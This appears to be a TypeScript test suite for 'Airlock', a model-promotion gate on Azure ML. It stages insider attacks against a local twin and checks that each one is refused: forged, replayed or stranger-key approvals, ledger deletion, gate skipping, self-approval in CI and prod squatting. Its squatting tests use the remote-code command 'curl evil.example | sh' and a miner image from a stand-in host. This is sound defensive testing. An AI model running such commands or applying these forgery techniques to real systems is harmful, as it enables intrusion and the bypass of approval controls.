/**
 * The attacks of issue #8, each tried end to end on the twin over real HTTP by someone holding ordinary dev or
 * prod roles, and each refused with its stable code. alice is a data scientist (she trains, registers and
 * requests), bob is an approver, mallory holds no approver role; the CI identities are sp-aml-promotion-dev/prod.
 */
import assert from "node:assert/strict";
import { execFile } from "node:child_process";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import path from "node:path";
import { after, before, describe, test } from "node:test";
import { promisify } from "node:util";
import { BlobServiceClient, StorageSharedKeyCredential } from "@azure/storage-blob";
import { ArmError } from "../../src/arm/errors.ts";
import { PROP } from "../../src/assets/index.ts";
import { mintCiToken } from "../../src/emulator/ci-oidc.ts";
import { AirlockError } from "../../src/errors.ts";
import { actorOf } from "../../src/governance/identity.ts";
import { segmentOf } from "../../src/governance/ledger.ts";
import { loadPolicy, parsePolicy } from "../../src/governance/policy.ts";
import { isRecordOf } from "../../src/governance/records.ts";
import { signWithSsh, twinSigningKey } from "../../src/governance/signing/index.ts";
import { deploy } from "../../src/promotion/deploy.ts";
import {
  approveRequest,
  rejectRequest,
  requestPromotion,
  requestStatuses,
} from "../../src/promotion/gate.ts";
import { type AssetSpec, describeSource, promote } from "../../src/promotion/promote.ts";
import { auditLedger } from "../../src/verify/ledger-audit.ts";
import {
  airlock,
  approvedModel,
  ledgerRecords,
  prepareComponent,
  prepareCondaEnvironment,
  prepareModel,
  prodRegistryVersion,
  register,
  requestFiledAgo,
  startWorld,
  storageAccountKeys,
  type World,
} from "../promotion/fixture.ts";

const run = promisify(execFile);

let world: World;

/**
 * One model alice registered, bob approved and CI promoted to prod, made by the first test that needs it: the
 * tests that only read a promoted version, its anchor or bob's approval share it rather than each promoting.
 */
let promoted: Promise<Awaited<ReturnType<typeof approvedModel>>> | undefined;
function promotedModel() {
  promoted ??= (async () => {
    const approved = await approvedModel(world, "1", "anchored", "anchored");
    await promote(world.ci, approved.asset, world.policy);
    return approved;
  })();
  return promoted;
}

/** `promise` is refused with `code`; returns the error for further checks. */
async function refused(promise: Promise<unknown>, code: string): Promise<AirlockError> {
  let caught: unknown;
  await assert.rejects(promise, (error: unknown) => {
    caught = error;
    assert.ok(error instanceof AirlockError, String(error));
    assert.equal(error.code, code, error.message);
    return true;
  });
  return caught as AirlockError;
}

const modelSubject = (asset: AssetSpec, requestId: string, target: string) => ({
  requestId,
  asset: `${asset.kind}:${asset.name}@${asset.version}`,
  target,
});

describe("attacks by people holding ordinary dev or prod roles", () => {
  // Per file, not for the whole shard: top-level hooks would hold this twin while other files run.
  before(async () => {
    world = await startWorld();
  });
  after(async () => {
    await world?.close();
    await Promise.all(policyCopies.map((dir) => rm(dir, { recursive: true, force: true })));
  });

  describe("1. forged approval written straight into the ledger", () => {
    test("people cannot read the prod datastore key any more (the seed's route to the ledger container)", async () => {
      await assert.rejects(
        world.alice.workspace("prod").datastores.listSecrets("workspaceblobstore"),
        (error: unknown) => error instanceof ArmError && error.status === 403,
      );
    });

    test("an unsigned approval.granted in bob's name does not open the gate, and is named", async () => {
      const file = await prepareModel(world, "1", "forged-approval", "forged");
      await register(world, file);
      const asset: AssetSpec = { kind: "model", name: "forged", version: "1" };
      const request = await requestPromotion(world.alice, asset, world.policy, { justification: "please" });
      const bob = await world.bob.identity("prod");
      // alice appends with the write she holds on the ledger container, claiming to be bob.
      const ledger = await world.alice.ledger();
      await ledger.append(
        "approval.granted",
        modelSubject(asset, request.requestId, request.target),
        {
          requestId: request.requestId,
          digest: request.digest,
          manifestDigest: request.manifestDigest,
          comment: "lgtm",
          approver: { ...actorOf(bob), groups: [] },
        },
        actorOf(bob),
      );
      const error = await refused(promote(world.ci, asset, world.policy), "GATE_NO_APPROVAL");
      assert.match(error.message, /DECISION_UNSIGNED/);
      const { requests, ignored } = await requestStatuses(world.bob, world.policy, {
        requestId: request.requestId,
      });
      assert.equal(requests[0]?.state, "pending");
      assert.ok(ignored.some((i) => i.code === "DECISION_UNSIGNED" && i.type === "approval.granted"));
      assert.equal(await prodRegistryVersion(world, "models", "forged", "1"), undefined);
    });

    test("an approval signed with alice's own key but claiming to be bob's is not bob's", async () => {
      const file = await prepareModel(world, "1", "forged-signer", "forged-signer");
      await register(world, file);
      const asset: AssetSpec = { kind: "model", name: "forged-signer", version: "1" };
      const request = await requestPromotion(world.alice, asset, world.policy, { justification: "please" });
      const envelope = await signWithSsh(
        {
          decision: "approve",
          requestId: request.requestId,
          asset: { kind: "model", name: asset.name, version: asset.version },
          digest: request.digest,
          bundleDigest: request.manifestDigest,
          target: request.target,
          expiresAt: request.expiresAt,
          signedAt: new Date().toISOString(),
          signer: "bob",
        },
        { keyFile: twinSigningKey(world.stateDir, "alice") },
      );
      const bob = await world.bob.identity("prod");
      await (await world.alice.ledger()).append(
        "approval.granted",
        modelSubject(asset, request.requestId, request.target),
        {
          requestId: request.requestId,
          digest: request.digest,
          manifestDigest: request.manifestDigest,
          comment: "",
          approver: { ...actorOf(bob), groups: [] },
          envelope,
        },
        actorOf(bob),
      );
      const error = await refused(promote(world.ci, asset, world.policy), "GATE_NO_APPROVAL");
      assert.match(error.message, /SIGNER_MISMATCH/);
    });

    test("a forged promotion.step marking the gate done does not skip the gate", async () => {
      const file = await prepareModel(world, "1", "forged-step", "forged-step");
      await register(world, file);
      const asset: AssetSpec = { kind: "model", name: "forged-step", version: "1" };
      const {
        promotionIdOf,
        bundleDigest: _b,
        promotionTarget,
      } = await import("../../src/promotion/promote.ts");
      const source = await describeSource(world.ci, asset);
      const target = promotionTarget(world.ci, "model");
      const promotionId = promotionIdOf(asset, source.digest, target);
      const ci = await world.ci.identity("prod");
      await (await world.alice.ledger()).append(
        "promotion.step",
        { promotionId, asset: `model:${asset.name}@${asset.version}`, target },
        {
          stepId: "gate",
          status: "done",
          detail: "approval by bob",
          outputs: { approvalId: "x" },
          title: "gate",
        },
        actorOf(ci),
      );
      await refused(promote(world.ci, asset, world.policy), "GATE_NO_APPROVAL");
      assert.equal(await prodRegistryVersion(world, "models", "forged-step", "1"), undefined);
    });
  });

  describe("2. ledger rollback", () => {
    test("deleting or overwriting ledger records is refused by the container's WORM policy, with Azure's code", async () => {
      await promotedModel(); // the ledger holds records
      const ledger = await world.alice.ledger();
      // alice's access (the container-scoped data role, as a SAS on the twin) cannot delete at all …
      const viaAlice = ledger.container.getAppendBlobClient(segmentOf(1));
      const before = (await viaAlice.getProperties()).contentLength;
      await assert.rejects(viaAlice.delete(), (error: { statusCode?: number }) => error.statusCode === 403);
      // … and even the storage account key, which bypasses RBAC, meets the WORM policy.
      const account = ledger.container.accountName;
      const keys = await storageAccountKeys(world.stateDir);
      const accountUrl = ledger.container.url.split("?")[0]!.replace(/\/[^/]+$/, "");
      const service = new BlobServiceClient(
        accountUrl,
        new StorageSharedKeyCredential(account, keys[account]!),
      );
      const container = service.getContainerClient(ledger.container.containerName);
      const immutable = (error: { statusCode?: number; code?: string }) => {
        assert.equal(error.statusCode, 409, String(error.code));
        return true;
      };
      await assert.rejects(
        container.getAppendBlobClient(segmentOf(1)).delete(),
        (error: { statusCode?: number; code?: string }) => {
          assert.equal(error.statusCode, 409);
          assert.equal(error.code, "BlobImmutableDueToPolicy");
          return true;
        },
      );
      await assert.rejects(container.getBlockBlobClient(segmentOf(1)).upload("{}\n", 3), immutable);
      await assert.rejects(container.delete(), immutable);
      assert.equal((await viaAlice.getProperties()).contentLength, before, "nothing removed");
      assert.equal((await (await world.bob.ledger()).verify()).ok, true);
    });

    test("a ledger shorter than the anchor on a promoted prod version is refused by audit verify and the gate", async () => {
      await promotedModel();
      const version = await prodRegistryVersion(world, "models", "anchored", "1");
      const anchor = version?.properties.properties?.[PROP.ledgerAnchor] ?? "";
      assert.match(anchor, /^\d+:sha256:[0-9a-f]{64}$/);
      const [seq, hash] = [Number(anchor.split(":")[0]), anchor.slice(anchor.indexOf(":") + 1)];
      // The anchor holds against the real ledger …
      const audit = await auditLedger(world.ci);
      assert.equal(audit.verification.ok, true, JSON.stringify(audit.verification.firstBad));
      assert.ok(audit.anchors.some((a) => a.seq === seq && a.hash === hash));
      // … and a ledger that lost records after it (here: one that ends before it) is refused.
      const ledger = await world.ci.ledger();
      await refused(ledger.assertAnchors([{ seq: seq + 1_000, hash }]), "LEDGER_TRUNCATED");
      await refused(ledger.assertAnchors([{ seq, hash: `sha256:${"1".repeat(64)}` }]), "LEDGER_FORKED");
    });

    test("prod holding a version the ledger does not record fails audit verify with exit 8", async () => {
      // Someone with write on the prod registry (the promotion identity's credential, misused) creates a version
      // outside Airlock: the ledger does not account for it.
      await promotedModel();
      const versions = world.ci.registry("prod").versions("models", "smuggled");
      const registered = await prodRegistryVersion(world, "models", "anchored", "1");
      await versions.createOrUpdate("1", {
        properties: {
          modelType: "custom_model",
          modelUri: String((registered!.properties as { modelUri?: string }).modelUri),
        },
      } as never);
      const result = await airlock(["audit", "verify", "--json"], world.cliEnv("bob"));
      assert.equal(result.code, 8, result.stderr);
      assert.match(result.stderr, /LEDGER_RECONCILIATION/);
      assert.match(result.stderr, /model:smuggled@1/);
    });
  });

  describe("3. resuming never skips the gate", () => {
    test("approve → crash after the gate → reject → rerun is refused (GATE_REJECTED)", async () => {
      const { asset, requestId } = await approvedModel(world, "1", "resume-reject", "resume-reject");
      const crashed = await airlock(["promote", "model", "resume-reject@1", "--to", "prod"], {
        ...world.cliEnv(),
        AIRLOCK_CRASH_AT: "prod-copy-to-prod-registry:before",
      });
      assert.equal(crashed.signal, "SIGKILL", crashed.stderr);
      assert.match(crashed.stderr, /approval gate[^\n]*\n\s+done: approval .* by bob/, "the gate had opened");
      await rejectRequest(world.bob, requestId, world.policy, "found a leak in the features");
      const rerun = await airlock(["promote", "model", "resume-reject@1", "--to", "prod"], world.cliEnv());
      assert.equal(rerun.code, 7, rerun.stderr);
      assert.match(rerun.stderr, /GATE_REJECTED/);
      assert.equal(await prodRegistryVersion(world, "models", asset.name, "1"), undefined);
    });

    test("approve → crash → the approval expires under the policy in force → rerun is refused (GATE_EXPIRED)", async () => {
      // Filed two minutes ago (under the repository's 24 h TTL), approved now.
      const asset = await backdatedApprovedModel("resume-expire", 2 * 60_000);
      const crashed = await airlock(["promote", "model", "resume-expire@1", "--to", "prod"], {
        ...world.cliEnv(),
        AIRLOCK_CRASH_AT: "prod-copy-to-prod-registry:before",
      });
      assert.equal(crashed.signal, "SIGKILL", crashed.stderr);
      const shortTtl = await shortTtlPolicy("1m");
      const rerun = await airlock(["promote", "model", "resume-expire@1", "--to", "prod"], {
        ...world.cliEnv(),
        AIRLOCK_POLICY: shortTtl,
      });
      assert.equal(rerun.code, 7, rerun.stderr);
      assert.match(rerun.stderr, /GATE_EXPIRED/);
      assert.equal(await prodRegistryVersion(world, "models", asset.name, "1"), undefined);
    });
  });

  describe("4. separation of duties is between people, in CI too", () => {
    let stub: Server;
    let stubUrl = "";
    before(async () => {
      // GitHub's OIDC token endpoint, as a job with `id-token: write` sees it; tokens come from the twin's CI issuer.
      stub = createServer(async (request, response) => {
        const url = new URL(request.url ?? "/", "http://127.0.0.1");
        const token = await mintCiToken(world.stateDir, {
          actor: url.searchParams.get("actor") ?? "alice",
          audience: url.searchParams.get("audience") ?? "airlock",
          runId: "4242",
        });
        response.setHeader("content-type", "application/json");
        response.end(JSON.stringify({ value: token }));
      });
      await new Promise<void>((resolve) => stub.listen(0, "127.0.0.1", resolve));
      stubUrl = `http://127.0.0.1:${(stub.address() as AddressInfo).port}/token?actor=alice`;
    });
    after(() => new Promise<void>((resolve) => stub.close(() => resolve())));

    test("a request filed by the CI identity is the dispatching person's: that person cannot approve it", async () => {
      const file = await prepareModel(world, "1", "ci-sod", "ci-sod");
      // bob registers (so the creator rule is not what refuses alice below).
      const { registerAssetFile } = await import("../../src/promotion/register.ts");
      await registerAssetFile(world.bob, file, { env: "dev", root: path.dirname(file) });
      const asset: AssetSpec = { kind: "model", name: "ci-sod", version: "1" };
      const restore = inCiJob(stubUrl);
      let requestId: string;
      try {
        const request = await requestPromotion(world.ci, asset, world.policy, {
          justification: "nightly retrain",
        });
        requestId = request.requestId;
        assert.equal(request.requester.name, "sp-aml-promotion-dev", "the CI identity wrote the record");
      } finally {
        restore();
      }
      const { requests } = await requestStatuses(world.bob, world.policy, { requestId });
      assert.equal(requests[0]?.requesterPerson, "alice", "the person behind the run, from the OIDC claims");
      // alice dispatched the workflow: she may not approve it, though the record was written by the CI identity.
      await refused(approveRequest(world.alice, requestId, world.policy), "GATE_SELF_APPROVAL");
      await approveRequest(world.bob, requestId, world.policy).catch((error: AirlockError) => {
        // bob registered the model: as its creator he may not approve either.
        assert.equal(error.code, "GATE_SELF_APPROVAL");
      });
    });

    test("CI evidence copied onto another request does not make it the dispatching person's", async () => {
      const file = await prepareModel(world, "1", "ci-replay", "ci-replay");
      await register(world, file);
      const asset: AssetSpec = { kind: "model", name: "ci-replay", version: "1" };
      const restore = inCiJob(stubUrl.replace("actor=alice", "actor=bob"));
      let original: Awaited<ReturnType<typeof requestPromotion>>;
      try {
        original = await requestPromotion(world.ci, asset, world.policy, { justification: "bob's run" });
      } finally {
        restore();
      }
      const record = (await ledgerRecords(world)).find(
        (r) => isRecordOf(r, "approval.requested") && r.data.requestId === original.requestId,
      );
      assert.ok(record && isRecordOf(record, "approval.requested") && record.data.ci);
      // alice re-files under bob's CI evidence, hoping to make bob the requester of her own request.
      const copyId = "00000000-0000-4000-8000-00000000c0de";
      await (await world.alice.ledger()).append(
        "approval.requested",
        { ...record.subject, requestId: copyId },
        { ...record.data, requestId: copyId },
        record.actor,
      );
      const { requests, ignored } = await requestStatuses(world.bob, world.policy, {
        asset: "model:ci-replay@1",
      });
      assert.deepEqual(
        requests.map((r) => r.request.requestId),
        [original.requestId],
      );
      assert.ok(ignored.some((i) => i.requestId === copyId && i.code === "CI_TOKEN_REPLAYED"));
    });

    test("the person who registered or trained the version cannot approve it, even when someone else requested", async () => {
      const file = await prepareModel(world, "1", "creator", "creator");
      await register(world, file); // alice registers (and trained it)
      const asset: AssetSpec = { kind: "model", name: "creator", version: "1" };
      const request = await requestPromotion(world.bob, asset, world.policy, { justification: "bob asks" });
      const error = await refused(
        approveRequest(world.alice, request.requestId, world.policy),
        "GATE_SELF_APPROVAL",
      );
      assert.match(error.message, /created the asset version/);
    });
  });

  describe("5. pre-squatting prod", () => {
    test("a person cannot create an environment in the prod workspace (read-only by default)", async () => {
      await assert.rejects(
        world.alice
          .workspace("prod")
          .versions("environments", "squat-env")
          .createOrUpdate("1", {
            properties: { image: "evil.example/miner:latest" },
          } as never),
        (error: unknown) => error instanceof ArmError && error.status === 403,
      );
    });

    test("an environment squatted in prod with another image is a conflict naming both digests; nothing is recorded", async () => {
      const file = await prepareCondaEnvironment(world, "squat-env", "1", "squat");
      const registered = await register(world, file);
      const asset: AssetSpec = { kind: "environment", name: "squat-env", version: "1" };
      const request = await requestPromotion(world.alice, asset, world.policy, {
        justification: "env",
        file,
      });
      await approveRequest(world.bob, request.requestId, world.policy);
      // Squatted with the approved digest copied into its (freely writable) properties, but another image.
      await world.ci
        .workspace("prod")
        .versions("environments", "squat-env")
        .createOrUpdate("1", {
          properties: {
            image: "evil.example/miner:latest",
            properties: { [PROP.digest]: registered.digest },
          },
        } as never);
      const error = await refused(promote(world.ci, asset, world.policy, { file }), "PROD_VERSION_DIFFERS");
      assert.equal(error.exitCode, 5);
      assert.match(error.message, new RegExp(registered.digest));
      const completed = (await ledgerRecords(world)).filter(
        (r) => r.type === "promotion.completed" && r.subject.asset === "environment:squat-env@1",
      );
      assert.equal(completed.length, 0, "the ledger records no promotion of bytes that are not there");
    });

    test("a component squatted in prod with another command is a conflict too", async () => {
      const envFile = await prepareCondaEnvironment(world, "squat-comp-env", "1", "squat-comp-env");
      await register(world, envFile);
      const file = await prepareComponent(world, "squat-comp", "1", "azureml:squat-comp-env:1", "squat-comp");
      const registered = await register(world, file);
      const asset: AssetSpec = { kind: "component", name: "squat-comp", version: "1" };
      const request = await requestPromotion(world.alice, asset, world.policy, { justification: "c", file });
      await approveRequest(world.bob, request.requestId, world.policy);
      await world.ci
        .workspace("prod")
        .versions("components", "squat-comp")
        .createOrUpdate("1", {
          properties: {
            componentSpec: {
              name: "squat-comp",
              version: "1",
              type: "command",
              command: "curl evil.example | sh",
            },
            properties: { [PROP.digest]: registered.digest },
          },
        } as never);
      const error = await refused(promote(world.ci, asset, world.policy, { file }), "PROD_VERSION_DIFFERS");
      assert.match(error.message, /a different component \w+/);
    });
  });

  describe("6. what serves traffic in prod was approved", () => {
    test("a person cannot create deployments in prod (403), and CI refuses a bundle nobody approved (exit 7)", async () => {
      const { asset } = await promotedModel();
      const code = await mkdtemp(path.join(world.dir, "own-code-"));
      await writeFile(path.join(code, "score.py"), "def init():\n  pass\n\ndef run(raw):\n  return [0]\n");
      await assert.rejects(
        world.alice.workspace("prod").onlineEndpoints.createOrUpdate("rogue", {
          location: world.ci.env("prod").location,
          properties: { authMode: "Key" },
        } as never),
        (error: unknown) => error instanceof ArmError && error.status === 403,
      );
      await refused(
        deploy(world.ci, {
          model: `${asset.name}@${asset.version}`,
          endpoint: "serving",
          code,
          smokeData: "none@1",
          policy: world.policy,
        }),
        "GATE_NO_APPROVAL",
      );
      const endpoints = [];
      for await (const endpoint of world.ci.workspace("prod").onlineEndpoints.list())
        endpoints.push(endpoint.name);
      assert.ok(!endpoints.includes("serving"), "nothing was created");
    });
  });

  describe("7. the requester does not set the expiry", () => {
    test("a request filed under a 3650-day policy copy expires under the policy in force at promote time", async () => {
      // alice files with her own policy copy (ttl 3650d): the stored deadline is ten years away, signed by her.
      const asset = await backdatedApprovedModel("long-ttl", 2 * 60_000, await shortTtlPolicy("3650d"));
      const statuses = await requestStatuses(world.bob, world.policy, { asset: "model:long-ttl@1" });
      assert.ok(Date.parse(statuses.requests[0]!.request.expiresAt) > Date.now() + 3000 * 86_400_000);
      // The policy in force when CI promotes has a 1-minute TTL: the request, filed two minutes ago, expired.
      const promoted = await airlock(["promote", "model", `${asset.name}@1`, "--to", "prod"], {
        ...world.cliEnv(),
        AIRLOCK_POLICY: await shortTtlPolicy("1m"),
      });
      assert.equal(promoted.code, 7, promoted.stderr);
      assert.match(promoted.stderr, /GATE_EXPIRED/);
    });
  });

  describe("signatures", () => {
    test("a decision signed by a key that is not in the registry is ignored, and the gate stays closed", async () => {
      const file = await prepareModel(world, "1", "stranger-key", "stranger-key");
      await register(world, file);
      const asset: AssetSpec = { kind: "model", name: "stranger-key", version: "1" };
      const request = await requestPromotion(world.alice, asset, world.policy, { justification: "x" });
      const keyDir = await mkdtemp(path.join(world.dir, "stranger-"));
      const keyFile = path.join(keyDir, "id_ed25519");
      await run("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", keyFile]);
      await approveRequest(world.bob, request.requestId, world.policy, { signingKey: keyFile });
      const error = await refused(promote(world.ci, asset, world.policy), "GATE_NO_APPROVAL");
      assert.match(error.message, /KEY_NOT_IN_REGISTRY/);
    });

    test("bob's signature replayed onto another request does not approve it", async () => {
      const a = await promotedModel(); // approved by bob
      const file = await prepareModel(world, "1", "replay-b", "replay-b");
      await register(world, file);
      const assetB: AssetSpec = { kind: "model", name: "replay-b", version: "1" };
      const requestB = await requestPromotion(world.alice, assetB, world.policy, { justification: "b" });
      const bobsApproval = (await ledgerRecords(world)).find(
        (r) => isRecordOf(r, "approval.granted") && r.data.requestId === a.requestId,
      );
      assert.ok(bobsApproval && isRecordOf(bobsApproval, "approval.granted"));
      await (await world.alice.ledger()).append(
        "approval.granted",
        modelSubject(assetB, requestB.requestId, requestB.target),
        {
          ...bobsApproval.data,
          requestId: requestB.requestId,
          digest: requestB.digest,
          manifestDigest: requestB.manifestDigest,
        },
        bobsApproval.actor,
      );
      const error = await refused(promote(world.ci, assetB, world.policy), "GATE_NO_APPROVAL");
      assert.match(error.message, /DECISION_MISMATCH/);
    });
  });
});

/**
 * A model registered by alice and requested by her `ageMs` ago (her signed request says so), under `policyFile`
 * (default the repository's), then approved by bob now.
 */
async function backdatedApprovedModel(name: string, ageMs: number, policyFile?: string): Promise<AssetSpec> {
  const file = await prepareModel(world, "1", name, name);
  await register(world, file);
  const asset: AssetSpec = { kind: "model", name, version: "1" };
  const policy = policyFile ? await loadPolicy(policyFile) : world.policy;
  const request = await requestFiledAgo(world, asset, ageMs, policy);
  await approveRequest(world.bob, request.requestId, world.policy);
  return asset;
}

/**
 * The OIDC request variables a GitHub job with `id-token: write` has, until the returned function puts the
 * previous values back (the process's own environment object stays in place: other files share the process).
 */
function inCiJob(tokenUrl: string): () => void {
  const names = ["ACTIONS_ID_TOKEN_REQUEST_URL", "ACTIONS_ID_TOKEN_REQUEST_TOKEN"] as const;
  const saved = names.map((name) => process.env[name]);
  process.env.ACTIONS_ID_TOKEN_REQUEST_URL = tokenUrl;
  process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN = "runner-request-token";
  return () =>
    names.forEach((name, i) => {
      if (saved[i] === undefined) delete process.env[name];
      else process.env[name] = saved[i];
    });
}

/** Folders of the policy copies below, removed when the file's tests end. */
const policyCopies: string[] = [];

/** A copy of the repository's policy with another approval (and breakglass) TTL. */
async function shortTtlPolicy(ttl: string): Promise<string> {
  const dir = await mkdtemp(path.join(tmpdir(), "airlock-policy-"));
  policyCopies.push(dir);
  const file = path.join(dir, "policy.yml");
  const { readFile } = await import("node:fs/promises");
  const text = (
    await readFile(path.join(import.meta.dirname, "../../governance/policy.yml"), "utf8")
  ).replace(/^(\s*)ttl: 24h$/m, `$1ttl: ${ttl}`);
  parsePolicy(text, file); // the copy must be a valid policy
  await writeFile(file, text);
  return file;
}
